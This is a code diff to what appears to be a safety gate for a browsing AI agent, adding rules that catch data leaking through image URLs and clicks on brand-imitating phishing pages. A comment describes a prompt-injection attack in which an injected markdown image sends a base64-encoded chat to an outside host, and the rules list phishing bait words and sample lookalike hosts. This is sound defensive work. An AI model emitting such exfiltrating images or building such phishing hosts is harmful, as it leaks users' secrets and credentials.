@@ -29,6 +29,7 @@ from gate.dataout import (
     body_sent,
     carried,
     collector_named,
+    decoded_value,
     destination,
     logging_path,
     url_payload,
@@ -193,7 +194,7 @@ def file_url(ctx: Context) -> CheckResult:
 
 # Browser and system settings pages that hold no password, key, protection or data to clear: how the screen,
 # the text, the language, the start page, the search engine, downloads and bookmarks look. The pages for
-# passwords, payment methods, privacy and security, site permissions, cookies, extensions, flags,
+# passwords, payment methods, a browser's privacy and security, site permissions, cookies, extensions, flags,
 # `about:config` and Windows security keep asking.
 _PLAIN_SETTINGS = re.compile(
     r"^(?:chrome|edge|brave|vivaldi|opera)://(?:settings/?(?:appearance|fonts|languages|downloads|onstartup|"
@@ -205,7 +206,12 @@ _PLAIN_SETTINGS = re.compile(
     r"colors|themes|lockscreen|taskbar|sound|notifications|dateandtime|regionlanguage|regionformatting|keyboard|"
     r"mousetouchpad|typing|easeofaccess(?:-\w+)?|about|storagesense|batterysaver|powersleep|defaultapps|"
     r"bluetooth|printers|clipboard|multitasking|quiethours|screenrotation|mobile-devices|"
-    r"windowsupdate(?:-history|-options)?|network-status|appsfeatures|storage)?$", re.IGNORECASE)
+    r"windowsupdate(?:-history|-options)?|network-status|appsfeatures|storage|"
+    # the app-permission pages (which apps may use the camera, the microphone, the location): opening one changes
+    # nothing, and its switches are judged when clicked
+    r"privacy(?:-(?:webcam|microphone|location|notifications|contacts|calendar|speech|general|activityhistory|"
+    r"appdiagnostics|documents|pictures|videos|musiclibrary|downloadsfolder|radios|backgroundapps))?)?$",
+    re.IGNORECASE)
 
 
 @rule("confirm.web.external-handler", "a URL scheme handled outside the browser", risk=Risk.MEDIUM, types=NAV)
@@ -214,7 +220,8 @@ def external_handler(ctx: Context) -> CheckResult:
     (`ms-settings:`, `smb:`, `ssh:`, `intent:`, custom app handlers) or open browser internals
     (`chrome://settings/passwords`, `about:config`). `about:blank`, the new-tab page and the settings pages
     that hold nothing sensitive (appearance, fonts, languages, search engine, downloads, history; Windows'
-    display, personalisation, sound, date and time: `_PLAIN_SETTINGS`) are excepted."""
+    display, personalisation, sound, date and time, the app-permission pages: `_PLAIN_SETTINGS`) are excepted.
+    Opening a settings page changes nothing; the switch clicked on it is judged as a click."""
     parts = ctx.derived(nav_parts)
     if parts is None:
         return None
@@ -366,12 +373,23 @@ _SECRET_VALUE = SECRET_VALUE
 @rule("block.web.secret-in-url", "a live secret sent in a URL", risk=Risk.CRITICAL, types=NAV)
 def secret_value_in_url(ctx: Context) -> CheckResult:
     """The URL carries something in the format of a live secret (AWS access key, GitHub/GitLab/Slack
-    token, API key, JWT, private key): opening it hands the secret to that site and its logs."""
+    token, API key, JWT, private key): opening it hands the secret to that site and its logs. An access key's
+    id at the head of a signed request's credential scope (`X-Amz-Credential=AKIA.../20240101/us-east-1/s3/...`,
+    what every presigned bucket URL carries) is the key's public name, signed for one object: it passes."""
     parts = ctx.derived(nav_parts)
     if parts is None or parts.scheme not in _WEB_SCHEMES:
         return None
-    m = _SECRET_VALUE.search(parts.raw)
-    return f"the URL sends a secret ({m.group(0)[:8]}…) to {parts.host}" if m else None
+    for m in _SECRET_VALUE.finditer(parts.raw):
+        if _CREDENTIAL_SCOPE.match(parts.raw, m.end()) and \
+                parts.raw[max(0, m.start() - 18): m.start()].lower().endswith(("-credential=", "-credential%3d")):
+            continue
+        return f"the URL sends a secret ({m.group(0)[:8]}…) to {parts.host}"
+    return None
+
+
+# what follows a key id in a signed request's credential: /date/region/service/aws4_request (`/` or `%2F`)
+_CREDENTIAL_SCOPE = re.compile(r"(?:/|%2[fF])\d{8}(?:/|%2[fF])[a-z0-9-]{2,32}(?:/|%2[fF])[a-z0-9-]{2,32}(?:/|%2[fF])"
+                               r"(?:aws4|goog4)_request", re.IGNORECASE)
 
 
 @rule("confirm.web.secret-param", "a URL parameter that carries a secret", risk=Risk.HIGH, types=NAV)
@@ -558,9 +576,12 @@ def _brand_lookalike(host: str, index: Brands, shown: str) -> str | None:
         if hit is None and lbl in brands and i + 1 < site_index and labels[i + 1] in _TLD_LIKE:
             hit = lbl
         # the brand as a subdomain of a site named as bait: docusign.review-document.ru,
-        # appleid.apple.com-unlock.support (a top-level name glued to the next label by a hyphen)
-        if hit is None and lbl in brands and i < site_index and _bait_site(labels[site_index]):
-            hit = lbl
+        # appleid.apple.com-unlock.support (a top-level name glued to the next label by a hyphen); or with a bait
+        # label between it and the site: bank.secure-login.example.click
+        core = lbl.rstrip("0123456789")  # microsoft365, office2024: the brand with a number after it
+        if hit is None and (lbl in brands or core in brands) and i < site_index and \
+                any(_bait_site(later) for later in labels[i + 1: site_index + 1]):
+            hit = lbl if lbl in brands else core
         if hit is not None:
             return f"{shown} uses the name {hit} but is not {hit}'s site"
     return None
@@ -608,7 +629,10 @@ _TLD_LIKE = frozenset({"com", "net", "org", "co", "io", "us", "uk", "de", "fr", 
 # words a phishing site's own name uses to look like a document or an account page (beside _SCAM_WORDS)
 _BAIT_WORDS = frozenset({"document", "documents", "doc", "docs", "review", "share", "shared", "sign", "esign",
                          "file", "files", "drive", "portal", "invoice", "payment", "secure", "verify", "login",
-                         "account", "support", "unlock", "update", "auth", "id", "service", "services", "online"})
+                         "account", "support", "unlock", "update", "auth", "id", "service", "services", "online",
+                         # a parcel's, a bill's or a mailbox's notice: delivery-fee and mailbox-quota lures
+                         "delivery", "redelivery", "parcel", "package", "tracking", "track", "shipment", "customs",
+                         "fee", "toll", "notice", "session", "connect", "sso", "mail", "webmail", "owa", "mailbox"})
 
 
 def _bait_site(site: str) -> bool:
@@ -833,6 +857,90 @@ def data_out_confirm(ctx: Context) -> CheckResult:
     return None
 
 
+# -- data leaving as an image's address ------------------------------------------------------------------
+#
+# A page or a chat that shows an image fetches it as soon as it renders: a markdown image written by an injected
+# instruction (`![](https://host/l.png?d=<base64 of the chat>)`) sends what its query holds without a click. An
+# image's address carries sizes, formats and a cache key; a value that decodes to text, or sentences, is data.
+
+_IMAGE_FILE = re.compile(r"\.(?:png|gif|jpe?g|webp|svg|ico|bmp|avif)$", re.IGNORECASE)
+# what signs a request rather than carrying data: a signed bucket URL's credential, policy, token and signature
+# (S3, CloudFront, GCS, Azure SAS), an image service's signature or hash
+_SIGNING_KEY = re.compile(r"^(?:x-amz-.*|x-goog-.*|x-ms-.*|policy|signature|key-pair-id|sig|signed|sv|se|sp|sr|st|"
+                          r"spr|skoid|sktid|skt|ske|sks|skv|token|expires|hmac|hash)$", re.IGNORECASE)
+# four words or more in a row, each of letters (a sentence, not a token or a list of sizes)
+_SENTENCE = re.compile(r"(?:\b[^\W\d_]{2,}[,.:;!?']*\s+){3,}[^\W\d_]{2,}")
+
+
+class _ImageData(NamedTuple):
+    payload: Payload  # what the image's query carries
+    key: str  # the parameter that carries it, or "a path segment"
+
+
+def image_data(ctx: Context) -> _ImageData | None:
+    """What an image's address sends in its query, read once per action: a value that decodes from base64 or
+    hex to text (judged by what that text carries, `gate.dataout.carried`), or sentences written plainly; and
+    the same in a folder of the image's path. Parameters that sign a request (`X-Amz-*`, `Policy`, `Signature`)
+    and an image proxy's encoded source address are not data."""
+    parts = ctx.derived(nav_parts)
+    if parts is None or parts.scheme not in ("http", "https") or not parts.host or \
+            not _IMAGE_FILE.search(parts.path):
+        return None
+    if is_loopback(parts.host) or ((ip := ip_of(parts.host)) is not None and _local_network(ip)):
+        return None
+    best: _ImageData | None = None
+    # the query's values, and the folders above the image's file (`/<base64>/p.png`)
+    folders = [("a path segment", seg) for seg in parts.path.split("/")[:-1] if len(seg) >= 16]
+    for key, value in (*parse_qsl(parts.query), *folders):
+        if len(value) < 16 or _SIGNING_KEY.match(key):
+            continue
+        text = decoded_value(value)
+        if text is not None and text.lstrip().lower().startswith(("http://", "https://")) and " " not in text.strip():
+            continue  # an image proxy's source address, encoded into its own (`/insecure/<base64 of a URL>/`)
+        if text is not None and sum(ch.isalpha() for ch in text) >= 4:
+            found = carried(text) or Payload(ENCODED, 1)
+            if found.severity < 2 and _SENTENCE.search(text):
+                found = Payload("sentences hidden in an encoded value", 1)
+        elif _SENTENCE.search(value):
+            found = carried(value) or Payload("sentences of text", 1)
+        else:
+            continue
+        if best is None or found.severity > best.payload.severity:
+            best = _ImageData(found, key)
+    return best
+
+
+@rule("block.web.image-exfiltration", "an image address whose query sends a secret or personal data",
+      risk=Risk.CRITICAL, types=NAV, confidence=0.85)
+def image_exfiltration_block(ctx: Context) -> CheckResult:
+    """The URL names an image (`.png`, `.gif`, `.svg`...) and a query value or a folder of its path carries,
+    plainly or decoded from base64 or hex, a secret, a password with its user, a credential file, a card or
+    national id, or personal records (`gate.dataout.carried`). An image is fetched as soon as a page shows it:
+    that is how an injected markdown image sends a conversation's secrets to whoever serves it."""
+    hit = ctx.derived(image_data)
+    if hit is None or hit.payload.severity < 2:
+        return None
+    return f"the image address sends {hit.payload.kind} in {_where_in(hit.key)} to {ctx.derived(nav_parts).host}"
+
+
+@rule("confirm.web.image-exfiltration", "an image address whose query carries encoded text or sentences",
+      risk=Risk.HIGH, types=NAV, confidence=0.75)
+def image_exfiltration_confirm(ctx: Context) -> CheckResult:
+    """The URL names an image and a query value (or a folder of its path) is base64 or hex that decodes to text,
+    or sentences written plainly (`?d=SGVsbG8gd29ybGQ...`, `?q=the user said ...`): an image needs sizes and a
+    cache key, not text; text in its address is being carried somewhere. Signed bucket URLs (`X-Amz-*`,
+    CloudFront `Policy`), sizes and formats, short values, an image proxy's encoded source address and this
+    machine's own images pass. A secret or personal data in it blocks (`block.web.image-exfiltration`)."""
+    hit = ctx.derived(image_data)
+    if hit is None or hit.payload.severity >= 2:
+        return None
+    return f"the image address carries {hit.payload.kind} in {_where_in(hit.key)} to {ctx.derived(nav_parts).host}"
+
+
+def _where_in(key: str) -> str:
+    return key if key == "a path segment" else f"{key}="
+
+
 @rule("confirm.web.shortened-link", "a URL shortener hides where a link goes", risk=Risk.MEDIUM, types=NAV,
       confidence=0.7)
 def shortened_link(ctx: Context) -> CheckResult:
@@ -928,13 +1036,36 @@ _PATH_WORD = re.compile(r"[a-z0-9]+(?:-[a-z0-9]+)*")
 
 
 def _sign_in_word(ctx: Context, parts: UrlParts) -> str | None:
-    """A word of the URL's path or query that marks a sign-in or account page (`[sign-in-paths]`)."""
+    """A word of the URL's path or query that marks a sign-in or account page (`[sign-in-paths]`), a version
+    number after it dropped (`oauth2` reads `oauth`)."""
     words = ctx.compiled.cues.sign_in_words
     for w in _PATH_WORD.findall(f"{parts.path} {unquote(parts.query)}".lower()):
-        if w in words:
+        if w in words or w.rstrip("0123456789") in words:
             return w
         for piece in w.split("-"):
-            if piece in words:
+            if piece in words or piece.rstrip("0123456789") in words:
+                return piece
+    return None
+
+
+def _host_sign_in_word(ctx: Context, host: str) -> str | None:
+    """A word of the host's own labels that marks a sign-in or account page, in a label of its own beside the
+    brand's: `verify-session` in appleid.apple.com.verify-session.example.live, `auth` in
+    login-brand.example-auth.com. A word in the brand's own label (`brand-account-check.com`) is only the
+    imitation (`confirm.web.lookalike-host`); the public suffix does not count."""
+    words = ctx.compiled.cues.sign_in_words
+    index = ctx.compiled.brands
+    labels = host.split(".")
+    site = site_label(host)
+    if site not in labels:
+        return None
+    site_index = len(labels) - 1 - labels[::-1].index(site)
+    for lbl in labels[: site_index + 1]:
+        pieces = lbl.split("-")
+        if any(p in index.names or (len(p) >= 4 and _skeleton(p) in index.skeletons) for p in pieces):
+            continue  # the brand's own label
+        for piece in pieces:
+            if piece in words or piece.rstrip("0123456789") in words:
                 return piece
     return None
 
@@ -944,14 +1075,15 @@ def _sign_in_word(ctx: Context, parts: UrlParts) -> str | None:
 def lookalike_login(ctx: Context) -> CheckResult:
     """The host imitates another site (`confirm.web.lookalike-host`: a brand inside someone else's domain, a
     digit swap, a domain spelled as subdomains) and the path asks to sign in, verify an account or update a
-    payment (`[sign-in-paths]` of resources/cues.toml): the shape of a phishing page."""
+    payment (`[sign-in-paths]` of resources/cues.toml), or the host's own labels say so beside the brand
+    (`brand.verify-session.example.live`, `login-brand.example-auth.com`): the shape of a phishing page."""
     parts = ctx.derived(nav_parts)
     if parts is None or not parts.host or parts.scheme not in _WEB_SCHEMES:
         return None
     why = ctx.compiled.brands.lookalike(parts.host)
     if not why:
         return None
-    word = _sign_in_word(ctx, parts)
+    word = _sign_in_word(ctx, parts) or _host_sign_in_word(ctx, parts.host)
     return f"a {word!r} page at a host that imitates another: {why}" if word else None
 
 
@@ -1003,6 +1135,62 @@ def lookalike_page(ctx: Context) -> CheckResult:
         return None
     why = ctx.compiled.brands.lookalike(host) or _scam_named(host)
     return f"typing on a page that imitates another site: {why}" if why else None
+
+
+# a button that hands a sign-in, a verification or a payment over, or moves on towards one
+_SIGN_IN_CLICK = re.compile(r"\b(?:sign ?in|log ?in|log ?on|login|signin|continue|next|proceed|verify|validate|"
+                            r"confirm|submit|pay|pay now|checkout|unlock|restore|reactivate|update|authenticate|"
+                            r"authori[sz]e|allow|accept|enter|go|send|approve|download|claim)\b")
+
+
+def _lookalike_click(ctx: Context) -> tuple[str, str] | None:
+    """(why the page's host imitates a brand, the label) for a click that signs in, continues or pays there."""
+    host = ctx.derived(_page_host)
+    if not host or ip_of(host) is not None:
+        return None
+    why = ctx.compiled.brands.lookalike(host)
+    if not why:
+        return None
+    target = ctx.action.target
+    label = " ".join(p for p in (target.label, target.name) if p) if target else ""
+    words = _NON_WORDS.sub(" ", fold(label[:200]))
+    return (why, label[:60]) if _SIGN_IN_CLICK.search(words) else None
+
+
+@rule("confirm.web.lookalike-click", "signing in, continuing or paying on a page whose host imitates a brand",
+      risk=Risk.HIGH, types=("click",), confidence=0.8)
+def lookalike_click(ctx: Context) -> CheckResult:
+    """A click that signs in, verifies, continues, confirms or pays on a page whose host imitates a brand
+    (`confirm.web.lookalike-host`: `bank.secure-login.example.click`, `login-brand.example-auth.com`): the next
+    page of a phishing kit is the one that asks for the password or the card. A page whose address is itself a
+    sign-in or payment page blocks (`block.web.lookalike-sign-in-click`)."""
+    hit = ctx.derived(_lookalike_click)
+    if hit is None or ctx.derived(_lookalike_sign_in_page):
+        return None
+    return f"{hit[1]!r} on a page that imitates another site: {hit[0]}"
+
+
+def _lookalike_sign_in_page(ctx: Context) -> str | None:
+    """The word that makes the page a sign-in, verification or payment page (its path, query or host labels)."""
+    url = action_url(ctx)
+    parts = split_url(url) if url else None
+    if parts is None or not parts.host:
+        return None
+    return _sign_in_word(ctx, parts) or _host_sign_in_word(ctx, parts.host)
+
+
+@rule("block.web.lookalike-sign-in-click", "signing in or paying on a sign-in page whose host imitates a brand",
+      risk=Risk.CRITICAL, types=("click",), confidence=0.85)
+def lookalike_sign_in_click(ctx: Context) -> CheckResult:
+    """Two signs that agree: the page's host imitates a brand (`confirm.web.lookalike-host`) and its address is a
+    sign-in, verification or payment page (`block.web.lookalike-login`: `[sign-in-paths]` words in the path or
+    beside the brand in the host), and the click signs in, continues, verifies or pays there. It is the step a
+    phishing page exists for."""
+    hit = ctx.derived(_lookalike_click)
+    if hit is None:
+        return None
+    word = ctx.derived(_lookalike_sign_in_page)
+    return f"{hit[1]!r} on a {word!r} page that imitates another site: {hit[0]}" if word else None
 
 
 # a web address written in prose: the host is what a reader's click goes to
@@ -1187,6 +1375,8 @@ RULES: tuple[Rule, ...] = (
     collector_host,
     data_out_block,
     data_out_confirm,
+    image_exfiltration_block,
+    image_exfiltration_confirm,
     shortened_link,
     exploit_handler,
     script_in_url,
@@ -1197,6 +1387,8 @@ RULES: tuple[Rule, ...] = (
     homograph_page,
     lookalike_credential,
     lookalike_page,
+    lookalike_sign_in_click,
+    lookalike_click,
     lure_link,
     executable_download,
     direct_download,
